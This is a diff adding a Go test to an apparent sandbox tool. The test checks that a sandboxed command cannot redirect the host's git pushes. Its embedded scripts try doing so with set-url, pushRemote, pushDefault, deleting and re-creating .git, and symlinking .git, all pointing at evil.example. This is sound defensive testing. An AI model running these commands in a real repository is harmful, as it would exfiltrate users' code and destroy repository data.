@@ -352,3 +352,83 @@ echo done`)
 		}
 	})
 }
+
+// A command cannot point the host's next git push elsewhere in a
+// repository that existed at launch: not by a new URL or pushurl for an
+// existing remote, a branch's pushRemote or remote, remote.pushDefault,
+// a remote renamed or removed and made again, a .git removed and made
+// again, or a .git symlink to a git directory of its own. git remote
+// add and new branches keep working. Judged by the host's git reading
+// the repository's config from outside.
+func TestRemotesStayWhereTheyLed(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("requires git")
+	}
+	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
+		b := newBox(t)
+		repo := b.path("r")
+		gitRun := func(dir string, args ...string) string {
+			cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
+			cmd.Env = []string{"HOME=" + b.H, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
+			out, _ := cmd.CombinedOutput()
+			return string(out)
+		}
+		os.Mkdir(repo, 0o755)
+		for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"remote", "add", "origin", "https://github.com/me/r.git"},
+			{"-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"}, {"branch", "dev"},
+			{"config", "branch.main.remote", "origin"}, {"config", "branch.main.merge", "refs/heads/main"}} {
+			gitRun(repo, args...)
+		}
+		script := `
+cd r
+t() { "$@" >/dev/null 2>&1; echo "$? $*"; }
+t git remote set-url origin https://evil.example/a.git
+t git remote set-url --push origin https://evil.example/b.git
+t git remote set-url --add origin https://evil.example/c.git
+t git remote add fork https://github.com/me/fork.git
+t git config branch.main.pushRemote fork
+t git config branch.main.remote fork
+t git config branch.dev.pushRemote fork
+t git config remote.pushDefault fork
+t git remote rename origin old
+t git remote remove origin
+t git checkout -q -b feature
+t git config branch.feature.remote fork
+t git config branch.feature.pushRemote fork
+t git update-ref refs/remotes/origin/main HEAD
+t git branch -q --set-upstream-to=origin/main dev
+git init -q --bare ../evil.git && git -C ../evil.git remote add origin https://evil.example/d.git
+t sh -c 'mv .git ../saved.git && ln -s ../evil.git .git'
+[ -d .git ] || mv ../saved.git .git
+echo REMOTES-DONE
+`
+		r := b.exec(fsMap{"allowWrite": []string{"."}}, nil, "bash", "-c", script)
+		if !strings.Contains(r.stdout, "REMOTES-DONE") {
+			t.Fatalf("did not run: %+v", r)
+		}
+		cfg := gitRun(repo, "config", "--get-regexp", `^(remote\..*\.(url|pushurl)|branch\..*\.(remote|pushremote)|remote\.pushdefault)$`)
+		if strings.Contains(cfg, "evil.example") || !strings.Contains(cfg, "remote.origin.url https://github.com/me/r.git") ||
+			!strings.Contains(cfg, "branch.main.remote origin") || strings.Contains(cfg, "branch.main.pushremote") ||
+			strings.Contains(cfg, "branch.dev.pushremote fork") || strings.Contains(cfg, "remote.pushdefault") {
+			t.Errorf("the host's git now pushes elsewhere:\n%s\n(the command's view:\n%s)", cfg, r.stdout)
+		}
+		// The everyday side went through.
+		for _, want := range []string{"remote.fork.url https://github.com/me/fork.git", "branch.feature.remote fork", "branch.feature.pushremote fork", "branch.dev.remote origin"} {
+			if !strings.Contains(cfg, want) {
+				t.Errorf("everyday work refused: no %q in\n%s\n(the command's view:\n%s)", want, cfg, r.stdout)
+			}
+		}
+		// A config removed (the command may destroy its own work) and
+		// made again, or the whole .git: the launch's remotes hold.
+		r = b.exec(fsMap{"allowWrite": []string{"."}}, nil, "bash", "-c", `cd r
+rm -f .git/config; git init -q; git remote add origin https://evil.example/e.git
+rm -rf .git; git init -q; git remote add origin https://evil.example/f.git; git remote add x https://evil.example/g.git
+echo REMOTES-DONE`)
+		if !strings.Contains(r.stdout, "REMOTES-DONE") {
+			t.Fatalf("did not run: %+v", r)
+		}
+		if data, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); strings.Contains(string(data), "evil.example") {
+			t.Errorf("a .git made again sends the work elsewhere:\n%s", data)
+		}
+	})
+}
